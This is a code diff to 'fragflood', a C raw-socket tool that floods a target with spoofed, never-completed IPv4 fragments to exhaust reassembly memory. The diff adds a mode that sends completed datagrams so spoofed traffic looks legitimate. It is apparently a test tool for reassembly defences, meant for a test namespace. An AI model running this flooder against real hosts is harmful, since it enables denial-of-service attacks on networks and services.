@@ -2,14 +2,17 @@
 /*
  * fragflood: send first fragments (offset 0, MF set) of IPv4 UDP datagrams
  * that never complete, the way a reassembly-memory hog does.
- *   fragflood DST COUNT [SRC|SRC/PREFIX] [PPS] [SIZE]
+ *   fragflood DST COUNT [SRC|SRC/PREFIX] [PPS] [SIZE] [complete]
  * SRC/PREFIX picks a random source in that prefix per datagram (spoofed
  * flood). PPS 0 = as fast as possible. SIZE = fragment payload (default 1400).
+ * "complete": whole datagrams of 2 x SIZE bytes instead, two per source (the
+ * cheapest way for a spoofer to complete datagrams and look legitimate).
  * Raw socket with IP_HDRINCL: root, and only inside a test namespace.
  */
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -27,6 +30,7 @@ int main(int argc, char **argv)
 	struct in_addr src = {};
 	char srcbuf[64] = "", *slash;
 	struct timespec t0, now;
+	unsigned int prev_saddr = 0;
 	int fd, one = 1;
 
 	if (argc < 3) {
@@ -50,6 +54,8 @@ int main(int argc, char **argv)
 		pps = strtoul(argv[4], NULL, 0);
 	if (argc > 5)
 		size = strtoul(argv[5], NULL, 0) & ~7UL;
+	bool complete = argc > 6 && !strcmp(argv[6], "complete");
+
 	if (size < 8 || size > sizeof(buf) - 28)
 		return fprintf(stderr, "fragflood: SIZE must be 8..%zu\n", sizeof(buf) - 28), 2;
 
@@ -76,10 +82,16 @@ int main(int argc, char **argv)
 
 			ip->saddr = htonl((host & mask) | ((unsigned int)random() & ~mask));
 		}
+		if (complete && sent % 2)
+			ip->saddr = prev_saddr;	/* a second datagram from the same source */
+		prev_saddr = ip->saddr;
 		/* The kernel fills the checksum (and, with saddr 0, the source). */
-		if (sendto(fd, buf, 20 + size, 0, (void *)&dst, sizeof(dst)) < 0) {
-			perror("fragflood: sendto");
-			return 1;
+		for (int part = 0; part < (complete ? 2 : 1); part++) {
+			ip->frag_off = htons(part ? size / 8 : IP_MF);
+			if (sendto(fd, buf, 20 + size, 0, (void *)&dst, sizeof(dst)) < 0) {
+				perror("fragflood: sendto");
+				return 1;
+			}
 		}
 		if (pps) {
 			double due = (double)(sent + 1) / pps, el;
@@ -92,6 +104,6 @@ int main(int argc, char **argv)
 			} while (el < due);
 		}
 	}
-	printf("sent %lu first fragments\n", sent);
+	printf("sent %lu %s\n", sent, complete ? "complete datagrams" : "first fragments");
 	return 0;
 }
